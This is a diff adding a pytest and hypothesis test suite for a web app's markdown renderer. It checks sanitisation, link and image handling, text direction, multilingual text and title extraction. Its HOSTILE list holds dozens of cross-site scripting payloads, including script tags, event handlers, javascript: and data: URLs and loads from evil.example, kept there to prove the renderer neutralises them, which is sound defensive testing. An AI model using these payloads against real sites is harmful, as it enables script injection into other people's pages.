@@ -1,0 +1,284 @@
+"""Markdown as it is read: safe whatever is written, and right for every script."""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from webapp.core import markdown
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='x' onerror  =  'alert(1)'>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
+    "<math><mi xlink:href='data:text/html,<script>alert(1)</script>'>x</mi></math>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<iframe src=javascript:alert(1)>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<form action=//evil.example><input name=a></form>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<p style='background:url(//evil.example)'>x</p>",
+    "<a href='java\nscript:alert(1)'>x</a>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><script>alert(1)</script>",
+    "<xmp><img src=x onerror=alert(1)></xmp>",
+    "<title><img src=x onerror=alert(1)></title>",
+    "<textarea><img src=x onerror=alert(1)></textarea>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](java%0Ascript:alert(1))",
+    "[x](\x01javascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](file:///etc/passwd)",
+    "[x](blob:null/1)",
+    "[x](https://example.org \"' onmouseover=alert(1) '\")",
+    '[x](https://example.org\\"onmouseover=alert(1))',
+    "[x]: javascript:alert(1)\n\n[x]",
+    "<javascript:alert(1)>",
+    "<https://example.org/\"onmouseover='alert(1)'>",
+    "![x](javascript:alert(1))",
+    "![x](https://evil.example/pixel.png)",
+    "![x](//evil.example/pixel.png)",
+    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
+    '![x" onerror="alert(1)](media:1)',
+    '![x](media:1 "t\\" onerror=\\"alert(1)")',
+    "```<script>alert(1)</script>\nx\n```",
+    '```js" onmouseover="alert(1)\nx\n```',
+    "`<script>alert(1)</script>`",
+    "    <script>alert(1)</script>",
+    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
+    "- [x] <img src=x onerror=alert(1)>",
+    "> <script>alert(1)</script>",
+    "# <script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\u2028<script>alert(1)</script>",
+    "<\x00script>alert(1)</script>",
+    "＜script＞alert(1)＜/script＞",
+    "[" * 500 + "x" + "](javascript:alert(1))" * 500,
+    "*" * 2000 + "<script>alert(1)</script>",
+    "> " * 300 + "<img src=x onerror=alert(1)>",
+]
+
+
+class Seen(HTMLParser):
+    """What a browser would find: every element with its attributes."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.elements: list[tuple[str, dict[str, str | None]]] = []
+        self.words = ""
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.elements.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        self.words += data
+
+    def first(self, tag: str) -> dict[str, str | None]:
+        return next(attributes for name, attributes in self.elements if name == tag)
+
+
+def seen(text: str) -> Seen:
+    return Seen(str(markdown.render(text, {"media:1": "/media/1"}.get)))
+
+
+def dangers(found: Seen) -> list[str]:
+    """Everything in it that could run, load or send."""
+    wrong = [tag for tag, _attributes in found.elements if tag not in markdown.TAGS]
+    for tag, attributes in found.elements:
+        for name, value in attributes.items():
+            address = (value or "").strip().lower()
+            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "id", "name"):
+                wrong.append(f"{tag} {name}")
+            scheme = re.match(r"([a-z][a-z0-9+.-]*):", address)
+            if name == "href" and scheme and scheme[1] not in markdown.SCHEMES:
+                wrong.append(f"{tag} {address}")
+            if name == "src" and address != "/media/1":
+                wrong.append(f"{tag} {address}")
+    return wrong
+
+
+@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
+def test_nothing_written_can_run_load_or_send(text: str) -> None:
+    assert dangers(seen(text)) == []
+
+
+def test_the_check_above_can_see_each_kind_of_danger() -> None:
+    hostile = Seen("<script></script><img src=x onerror=y><a href='javascript:z' style='q'>")
+    assert dangers(hostile) == ["script", "img x", "img onerror", "a javascript:z", "a style"]
+
+
+@pytest.mark.parametrize("text", HOSTILE[:36], ids=range(36))
+def test_html_that_is_written_is_shown_as_it_was_written(text: str) -> None:
+    shown = seen(text).words
+    assert "alert" not in text or "alert" in shown
+    assert "<" in shown
+
+
+@given(st.text(max_size=300))
+def test_any_text_at_all_is_harmless(text: str) -> None:
+    assert dangers(seen(text)) == []
+
+
+hostile_signs = st.sampled_from([*"<>\"'`=&;:/\\()[]!#*_-|\n\t ", "script", "onerror", "href"])
+
+
+@given(st.lists(hostile_signs, max_size=60).map("".join))
+def test_any_mix_of_the_signs_of_markup_is_harmless(text: str) -> None:
+    assert dangers(seen(text)) == []
+
+
+def test_a_link_leads_out_without_saying_from_where() -> None:
+    link = seen("[a place](https://example.org/a?b=c&d)").first("a")
+    assert link == {
+        "href": "https://example.org/a?b=c&d",
+        "target": "_blank",
+        "rel": "noopener noreferrer",
+    }
+
+
+def test_a_mail_address_is_a_link_too() -> None:
+    assert seen("<mailto:bob@example.org>").first("a")["href"] == "mailto:bob@example.org"
+
+
+def test_a_picture_of_ours_is_shown_with_its_words() -> None:
+    picture = seen("![the heron](media:1)").first("img")
+    assert (picture["src"], picture["alt"]) == ("/media/1", "the heron")
+
+
+def test_a_picture_from_elsewhere_is_only_its_words() -> None:
+    found = seen("![the heron](https://example.org/heron.jpg)")
+    assert "the heron" in found.words
+    assert "img" not in [tag for tag, _attributes in found.elements]
+
+
+def test_a_picture_that_is_no_longer_there_is_only_its_words() -> None:
+    assert "the heron" in seen("![the heron](media:2)").words
+
+
+@pytest.mark.parametrize(
+    ("text", "tag"),
+    [
+        ("a paragraph", "p"),
+        ("# a heading", "h1"),
+        ("> a quotation", "blockquote"),
+        ("- an item", "li"),
+        ("1. an item", "li"),
+        ("| a | b |\n|---|---|\n| c | d |", "table"),
+    ],
+)
+def test_every_block_finds_its_own_direction(text: str, tag: str) -> None:
+    assert seen(text).first(tag)["dir"] == "auto"
+
+
+@pytest.mark.parametrize(
+    ("text", "tag"),
+    [
+        ("**strong**", "strong"),
+        ("*soft*", "em"),
+        ("~~gone~~", "s"),
+        ("`code`", "code"),
+        ("```\ncode\n```", "pre"),
+        ("---", "hr"),
+    ],
+)
+def test_marks_become_what_they_mean(text: str, tag: str) -> None:
+    assert tag in [name for name, _attributes in seen(text).elements]
+
+
+def test_a_line_break_in_a_diary_is_a_line_break() -> None:
+    assert "br" in [tag for tag, _attributes in seen("one\ntwo").elements]
+
+
+def test_a_checklist_shows_what_is_done() -> None:
+    boxes = [
+        attributes for tag, attributes in seen("- [x] one\n- [ ] two").elements if tag == "input"
+    ]
+    assert ["checked" in box for box in boxes] == [True, False]
+    assert all("disabled" in box for box in boxes)
+
+
+@pytest.mark.parametrize(
+    "text", ["日本語の日記。", "שלום עולם", "مرحبا بالعالم", "🦉 é ñ ß", "ไทย"]
+)
+def test_words_of_every_script_stay_as_they_are(text: str) -> None:
+    assert seen(text).words.strip() == text
+
+
+def test_a_very_long_entry_is_shown_whole() -> None:
+    text = "one word and another\n\n" * 2_000
+    assert seen(text).words.count("another") == 2_000
+
+
+@pytest.mark.parametrize(
+    ("title", "body", "name", "summary"),
+    [
+        (None, "", "", ""),
+        (None, "One line", "One line", ""),
+        (None, "\n\n# A heading\n\nand words", "A heading", "and words"),
+        (None, "First\nsecond\nthird", "First", "second third"),
+        ("A title", "First\nsecond", "A title", "First second"),
+        ("  ", "First\nsecond", "First", "second"),
+        (None, "- [ ] **Milk** and [bread](https://example.org)", "Milk and bread", ""),
+        (None, "---\nAfter the rule", "After the rule", ""),
+        (None, "![heron](media:1)\nwords", "heron", "words"),
+        (None, "snake_case_name and 2*3*4", "snake_case_name and 2*3*4", ""),
+    ],
+)
+def test_the_name_and_the_words_of_a_list_are_plain(
+    title: str | None, body: str, name: str, summary: str
+) -> None:
+    assert markdown.name_and_summary(title, body) == (name, summary)
+
+
+def test_a_long_first_line_is_cut_after_its_first_sentence() -> None:
+    body = "We walked to the ridge. " + "Then the rain came over the pass and stayed. " * 10
+    name, summary = markdown.name_and_summary(None, body)
+    assert name == "We walked to the ridge."
+    assert summary.startswith("Then the rain")
+
+
+@given(st.none() | st.text(max_size=300), st.text(max_size=900))
+def test_the_name_and_summary_of_any_text_are_short_single_lines(
+    title: str | None, body: str
+) -> None:
+    name, summary = markdown.name_and_summary(title, body)
+    assert len(name) <= markdown.NAME_LENGTH
+    assert len(summary) <= markdown.SUMMARY_LENGTH
+    assert "\n" not in summary
+
+
+@pytest.mark.parametrize(
+    ("text", "count"),
+    [("", 0), ("one two  three\nfour", 4), ("日記", 2), ("日記 one", 3), ("שלום עולם", 2)],
+)
+def test_words_are_counted_in_every_script(text: str, count: int) -> None:
+    assert markdown.count_words(text) == count
